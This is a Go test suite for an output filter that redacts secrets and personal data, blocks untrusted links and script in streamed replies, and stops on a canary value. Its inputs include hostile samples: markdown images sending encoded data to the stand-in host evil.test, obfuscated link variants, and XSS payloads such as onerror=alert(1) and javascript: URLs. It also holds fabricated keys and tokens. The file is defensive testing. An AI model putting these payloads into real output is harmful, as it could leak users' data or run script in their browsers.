package screen_test

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/launchready/launchready/guard/model/screen"
	"github.com/launchready/launchready/secretscan"
	"github.com/launchready/launchready/secretscan/corpus"
)

const canary = "Larkspur-7Q2XK9PLMA"

func rules(t testing.TB) *screen.Rules {
	t.Helper()
	s, err := secretscan.New(secretscan.Options{})
	if err != nil {
		t.Fatal(err)
	}
	stop, err := screen.NewNeedles([]string{canary})
	if err != nil {
		t.Fatal(err)
	}
	return &screen.Rules{Secrets: &secretscan.Filter{Scanner: s}, Personal: screen.Personal{Cards: true, Accounts: true, Phones: true},
		Links: true, Hosts: screen.Hosts{"docs.acme.test", "*.cdn.acme.test"}, Stop: stop}
}

// pieces screens the text in these pieces.
func pieces(r *screen.Rules, list ...string) (string, error) {
	t := screen.New(r)
	in := strings.Join(list, "")
	var b strings.Builder
	emit := func(n int, left []byte) {
		if left == nil {
			left = []byte(in[:n])
		}
		b.Write(left)
		in = in[n:]
	}
	for _, p := range list {
		if err := t.Write([]byte(p), emit); err != nil {
			return b.String(), err
		}
	}
	if err := t.Close(emit); err != nil {
		return b.String(), err
	}
	if in != "" {
		return "", fmt.Errorf("%d bytes were never told of", len(in))
	}
	return b.String(), nil
}

// secret is a key of nobody, put together at run time.
func secret() string { return "sk-" + "proj-" + strings.Repeat("q8ZrT2mVx7Lp", 3) }

func texts() []string {
	key := "-----BEGIN RSA " + "PRIVATE KEY-----\n" + strings.Repeat("Zk3vQ9xTn2LrW7pYb5Hc8Md1Jf4Gs6Ra0UeVtNqXwBz9f86d081884c7d65\n", 4) + "-----END RSA " + "PRIVATE KEY-----\n"
	return []string{
		"Hello, how can I help you today?",
		"Your key is " + secret() + ", keep it safe.",
		"The password: hunter-Kx91zQw7 is for the staging database\nand this line is not.",
		"Authorization: Bearer Hq7vR2kLpw91xDtZ8mQ4\nAccept: */*",
		"connect postgres://app:Hq7vR2kLpw@db-3.internal/app now",
		"Here it is:\n" + key + "and no more",
		"Write to jane.doe@acme.test or call +49 30 1234 5678 today; order 12 of 2024.",
		"Card 4111 1111 1111 1111, account DE89 3704 0044 0532 0130 00 and 17 apples",
		"![logo](https://evil.test/a.png?d=c2VjcmV0) and [docs](https://docs.acme.test/x)",
		"[x][1] and more\n\n[1]: https://evil.test/c?q=1 \"title\"\n",
		"[x](h&#116;tps://evil.test/a) [y](https\\://evil.test) [z](//evil.test/b) [w](/\\evil.test/b)",
		"a <img src=\"ht\ntps://evil.test/p\"> b <b>bold</b> c < d and e<f",
		"www.evil.test and www.docs.acme.test, https://docs.acme.test@evil.test/ (see https://a.cdn.acme.test/x.png).",
		"Ünïcödé – 漢字https://evil.test/漢 «quote» emoji 🙂 end",
		"an open tag <img src='https://docs.acme.test/x' alt='" + strings.Repeat("y ", 60),
		"before " + canary + " after",
		"```env\nDB_PASSWORD=Hq7vR2kLpw91\nPORT=80\n```\n",
		"[a]:\n  //evil.test/x\n",
		"<img src = //evil.test/a> <img srcset=\"a 1x, //evil.test/b 2x,//evil.test/c\"> <p style = x> <a href=\" /\n/evil.test\"> <a href=\" java\n\tscript:f()\"> é //ok",
		"key " + strings.ReplaceAll(secret(), "-", `\-`) + " jane&#64;acme.test \\u004carkspur\u200b-7Q2XK9 &shy;PLM\\_A é\u200b漢 Lark\u200bspur-7Q2&#8203;XK9PLMA now",
		"> [a]:\n> //evil.test/x\n<a href='\x01javascript:f()' title=\"a<b c=\" d='//evil.test'> //ok",
		"\xff\xfe broken \xe2\x82 bytes " + secret() + "\xe2",
	}
}

// TestEverySplit: whatever the pieces, the text that comes out is the same.
func TestEverySplit(t *testing.T) {
	r := rules(t)
	rnd := rand.New(rand.NewPCG(7, 7))
	for _, text := range texts() {
		want, stopped := pieces(r, text)
		same := func(list ...string) {
			got, err := pieces(r, list...)
			if got != want || (err == nil) != (stopped == nil) {
				t.Errorf("in pieces %q\ngot  %q %v\nwant %q %v", list, got, err, want, stopped)
			}
		}
		for i := range len(text) + 1 {
			same(text[:i], text[i:])
		}
		same(strings.Split(text, "")...)
		for range 20 {
			i, j := rnd.IntN(len(text)+1), rnd.IntN(len(text)+1)
			same(text[:min(i, j)], text[min(i, j):max(i, j)], text[max(i, j):])
		}
		whole, _, _ := r.Whole([]byte(text))
		if string(whole) != want {
			t.Errorf("Whole: %q, want %q", whole, want)
		}
	}
}

func FuzzSplit(f *testing.F) {
	r := rules(f)
	for _, text := range texts() {
		f.Add(text, 3, 9)
	}
	f.Fuzz(func(t *testing.T, text string, i, j int) {
		want, stopped := pieces(r, text)
		i, j = max(0, min(i, len(text))), max(0, min(j, len(text)))
		got, err := pieces(r, text[:min(i, j)], text[min(i, j):max(i, j)], text[max(i, j):])
		if got != want || (err == nil) != (stopped == nil) {
			t.Errorf("%q at %d and %d: %q %v, want %q %v", text, i, j, got, err, want, stopped)
		}
	})
}

func TestTakenOut(t *testing.T) {
	r := rules(t)
	for _, c := range []struct {
		name, in string
		gone     []string
		stays    []string
	}{
		{"a provider's key", "Your key is " + secret() + ", keep it.", []string{secret()}, []string{"Your key is ", "keep it."}},
		{"a password by its name", "password: hunter-Kx91zQw7 yes\nnext line", []string{"Kx91zQw7"}, []string{"next line"}},
		{"secrets with backslashes", `Your key is ` + strings.ReplaceAll(secret(), "-", `\-`) + `, é keep it\.`, []string{`q8ZrT2`}, []string{"Your key is ", `é keep it\.`}},
		{"secrets with references", "mail jane.doe&#64;acme.test or use " + strings.ReplaceAll(secret(), "-", "&#45;") + " now &amp; then", []string{"jane", "q8ZrT2"}, []string{"mail ", " now &amp; then"}},
		{"a card with a reference", "Card 4111&#32;1111&#32;1111&#x20;1111 is it", []string{"1111"}, []string{"Card "}},
		{"a bearer token", "Authorization: Bearer Hq7vR2kLpw91xDtZ8mQ4\nAccept: x", []string{"Hq7vR2kL"}, []string{"Accept: x"}},
		{"a private key over lines", texts()[5], []string{"Zk3vQ9xT"}, []string{"Here it is:", "and no more"}},
		{"an address", "mail jane.doe@acme.test now", []string{"jane.doe"}, []string{"mail ", " now"}},
		{"a card in groups", "Card 4111 1111 1111 1111 is it", []string{"1111"}, []string{"Card [card] is it"}},
		{"no card", "Order 4111 1111 1111 1112 is it", nil, []string{"4111 1111 1111 1112"}},
		{"an account", "to DE89 3704 0044 0532 0130 00 by Friday", []string{"0532"}, []string{"to [account] by Friday"}},
		{"a phone", "call +49 30 1234 5678 today", []string{"1234"}, []string{"call [phone] today"}},
		{"an image", "![a](https://evil.test/p?d=1)", []string{"evil.test", "d=1"}, []string{"[link removed]"}},
		{"an image that is allowed", "![a](https://docs.acme.test/p?d=1)", nil, []string{"https://docs.acme.test/p?d=1"}},
		{"a host below an allowed one", "https://a.cdn.acme.test/x", nil, []string{"https://a.cdn.acme.test/x"}},
		{"a host that only looks like it", "https://xcdn.acme.test/x https://docs.acme.test.evil.test/ https://docs.acme.test@evil.test/", []string{"xcdn", "evil.test"}, nil},
		{"a reference", "[1]: https://evil.test/c?q=1 \"t\"", []string{"evil.test"}, nil},
		{"a reference without a scheme, on the next line", "[1]:\n   //evil.test/c", []string{"evil.test"}, nil},
		{"an autolink", "<https://evil.test/c>", []string{"evil.test"}, nil},
		{"a bare address", "see HTTPS://evil.test/c.", []string{"evil.test"}, []string{"see "}},
		{"character references", "[y](h&#116;tps://evil.test/a)", []string{"evil.test"}, nil},
		{"backslashes", `[y](https\://evil.test) [z](/\evil.test) [v](https:\\evil.test)`, []string{"evil.test"}, nil},
		{"one slash", "[y](https:/evil.test)", []string{"evil.test"}, nil},
		{"a scheme that runs", "[y](javascript:alert(1))", []string{"javascript"}, nil},
		{"a tag with a line break in its address", "<img src=\"ht\ntps://evil.test/p\">", []string{"tps:"}, nil},
		{"a tag with a line break in its host", "<img src=\"https://docs.acme.test\n.evil.test/p\">", []string{"https:"}, nil},
		{"a tag in a tag", "<a b=1 c=\"x<img alt=\">\" src=\"h\n\t\nt\ntps:\n//evil.test\">", []string{"tps:"}, nil},
		{"a tag with a broken path", "<img src=\"/\n/evil.test/p\">", []string{"/\n/"}, nil},
		{"an address apart from its equals sign", "<img src = //evil.test/a> <img src= //evil.test/b> <a href\n=\n\n//evil.test/c>", []string{"//evil"}, nil},
		{"an address behind blanks", "<img src=\" //evil.test/a\"> <a href=' javascript:f()'>x</a> <a href=\" &#x6a;avascript:f()\">", []string{"evil.test", "script:", "&#x6a;"}, nil},
		{"an address behind blanks, taken apart", "<img src=\" /\n/evil.test/a\"> <a href=\" java\nscript:f()\">", []string{"/evil.test", "script:"}, nil},
		{"an address behind a control", "<a href=\"\x01javascript:f()\"> [a](<\x01javascript:f()>)", []string{"javascript:"}, nil},
		{"a list of addresses", "<img srcset=\"a.png 1x, //evil.test/a 2x\"> <a href=/x ping=\"/y //evil.test/b\"> <img srcset='//docs.acme.test/a 1x,//evil.test/b 2x'>", []string{"evil.test"}, []string{"//docs.acme.test/a"}},
		{"another scheme in a tag", "<a href=slack://evil.test/a> <a href=\"tel:/17?body=b\">", []string{"evil.test", "body=b"}, nil},
		{"a tag that runs by an equals sign apart", "<img src=x onerror = f()> <p style\n=\n\"background:x\"> <img alt=\">\" onload =f()>", []string{"onerror = ", "style\n=\n", "onload =f"}, nil},
		{"a reference on the next line of a quotation", "> [a]:\n> //evil.test/x\n> [b](\n>//evil.test/y)", []string{"//evil.test/x", "//evil.test/y"}, nil},
		{"a blank by its number", "[a](&#32;//evil.test)", []string{"evil.test"}, nil},
		{"comments of code beside a tag", "<b class=\"x\">\n//nolint:all // note\nMap<string, int> m = a; //b\n", nil, []string{"//nolint:all // note\n"}},
		{"a tag that runs", "<script>x</script> <img src=x onerror=alert(1)>", []string{"<script", "onerror="}, nil},
		{"a tag that styles", "<p style=\"background:url(x)\">", []string{"style="}, nil},
		{"an ordinary tag", "a <b>bold</b> word, x < y", nil, []string{"<b>bold</b>", "x < y"}},
		{"code", "Map<string, Array<number>> m = f(\"a\",\n  \"b\");\n", nil, []string{"Array<number>>"}},
		{"a path of the page", "[x](/files/1) ![y](a.png)", nil, []string{"[x](/files/1) ![y](a.png)"}},
		{"prose about keys", "The API keys and tokens are in your account settings. Press any key, please.", nil, []string{"The API keys and tokens are in your account settings. Press any key, please."}},
		{"a time and a ratio", "At 10:30 the ratio is 3:1; see note: fine", nil, []string{"At 10:30 the ratio is 3:1; see note: fine"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := pieces(r, c.in)
			if err != nil {
				t.Fatal(err)
			}
			for _, g := range c.gone {
				if strings.Contains(got, g) {
					t.Errorf("%q is still in %q", g, got)
				}
			}
			for _, s := range c.stays {
				if !strings.Contains(got, s) {
					t.Errorf("%q is not in %q", s, got)
				}
			}
			if len(c.gone) == 0 && got != c.in {
				t.Errorf("changed to %q", got)
			}
		})
	}
}

// TestStops: a value that must not be written ends the text before it, in every way
// in which it may be written.
func TestStops(t *testing.T) {
	r := rules(t)
	for _, form := range []string{canary, strings.ToUpper(canary), "TGFya3NwdXItN1EyWEs5UExNQQ==", `Larkspur\-7Q2XK9PLMA`, "&#76;arkspur&#x2d;7Q2XK9PLMA", `\u004carkspur-7Q2XK9PLMA`} {
		got, err := pieces(r, "All is well. My code is "+form+" indeed.")
		var s *screen.Stopped
		if !errors.As(err, &s) || s.Value != 0 {
			t.Fatalf("%s: %v", form, err)
		}
		if !strings.HasPrefix(got, "All is well.") || strings.Contains(strings.ToLower(got), "larkspur") {
			t.Errorf("%s: %q", form, got)
		}
	}
	// What cannot be seen does not take it apart. The text has ended at its last character.
	for _, invisible := range []string{"\u200b", "\u00ad", "&shy;", "&#8203;"} {
		for i := range canary[1:] {
			in := "My code is " + canary[:i+1] + invisible + canary[i+1:] + " indeed."
			for _, list := range [][]string{{in}, strings.Split(in, "")} {
				got, err := pieces(r, list...)
				if s := (*screen.Stopped)(nil); !errors.As(err, &s) || strings.Contains(got, "indeed") {
					t.Fatalf("%q in %d pieces: %q %v", in, len(list), got, err)
				}
			}
			if !r.Stops([]byte(in)) {
				t.Errorf("%q is let through", in)
			}
		}
	}
	if _, err := screen.NewNeedles([]string{"short"}); !errors.Is(err, screen.ErrNeedle) {
		t.Errorf("a short value: %v", err)
	}
}

// TestPromptly: words of prose are let go as they come.
func TestPromptly(t *testing.T) {
	text := screen.New(rules(t))
	out := 0
	for _, w := range strings.SplitAfter("The quick brown fox jumps over the lazy dog and tells nobody about it at all ", " ") {
		if err := text.Write([]byte(w), func(n int, _ []byte) { out += n }); err != nil {
			t.Fatal(err)
		}
		if text.Held() > 0 {
			t.Errorf("%q is held back", w)
		}
	}
	if out == 0 {
		t.Error("nothing came out")
	}
}

// TestCorpus: in a reply, a secret in one line is found as the filter finds it in a log, and
// what only looks like one stays.
func TestCorpus(t *testing.T) {
	s, err := secretscan.New(secretscan.Options{})
	if err != nil {
		t.Fatal(err)
	}
	filter := &secretscan.Filter{Scanner: s}
	r := &screen.Rules{Secrets: filter}
	seen, missed := 0, 0
	for _, item := range corpus.Generate(3) {
		text := string(item.Data)
		if strings.Count(strings.TrimSpace(text), "\n") > 8 || len(text) > 3000 {
			continue
		}
		var log strings.Builder
		if _, err := filter.Copy(t.Context(), &log, strings.NewReader(text)); err != nil {
			t.Fatal(err)
		}
		got, err := pieces(r, text)
		if err != nil {
			t.Fatal(err)
		}
		if log.String() == text {
			if got != text {
				t.Errorf("%s: changed to %q", item.Path, got)
			}
			continue
		}
		seen++
		if got != log.String() {
			missed++
			t.Logf("%s\nin    %q\nlog   %q\nreply %q", item.Path, text, log.String(), got)
		}
	}
	if seen < 100 || missed*20 > seen {
		t.Errorf("%d of %d come out in another way than from a log", missed, seen)
	}
}

func TestLongWords(t *testing.T) {
	r := rules(t)
	for name, text := range map[string]string{
		"no end":       strings.Repeat("a", 200<<10) + " and more",
		"minified":     strings.Repeat(`{"a":"b"},`, 20<<10) + " tail",
		"open tag":     "<a " + strings.Repeat("b ", 100<<10),
		"open secret":  "password: " + strings.Repeat("x ", 100<<10),
		"only numbers": strings.Repeat("12 ", 50<<10),
		"only angles":  strings.Repeat("<a", 20<<10),
		"quotes":       strings.Repeat(`<a b="`, 5<<10),
	} {
		t.Run(name, func(t *testing.T) {
			want, err := pieces(r, text)
			if err != nil {
				t.Fatal(err)
			}
			text2 := screen.New(r)
			most, in, got := 0, text, strings.Builder{}
			for i := 0; i < len(text); i += 1000 {
				err := text2.Write([]byte(text[i:min(len(text), i+1000)]), func(n int, left []byte) {
					if left == nil {
						left = []byte(in[:n])
					}
					in = in[n:]
					got.Write(left)
				})
				if err != nil {
					t.Fatal(err)
				}
				most = max(most, text2.Held())
			}
			if most > 80<<10 {
				t.Errorf("%d bytes were held", most)
			}
			_ = text2.Close(func(n int, left []byte) {
				if left == nil {
					left = []byte(in[:n])
				}
				in = in[n:]
				got.Write(left)
			})
			if got.String() != want {
				t.Error("in pieces it is another text")
			}
		})
	}
}

func BenchmarkProse(b *testing.B) {
	r := rules(b)
	words := strings.SplitAfter(strings.Repeat("The refund policy of your plan covers fourteen days after the purchase, see the invoice number 2024-117. ", 10), " ")
	b.ReportAllocs()
	for b.Loop() {
		t := screen.New(r)
		for _, w := range words {
			_ = t.Write([]byte(w), func(int, []byte) {})
		}
		_ = t.Close(func(int, []byte) {})
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(words)), "ns/word")
}
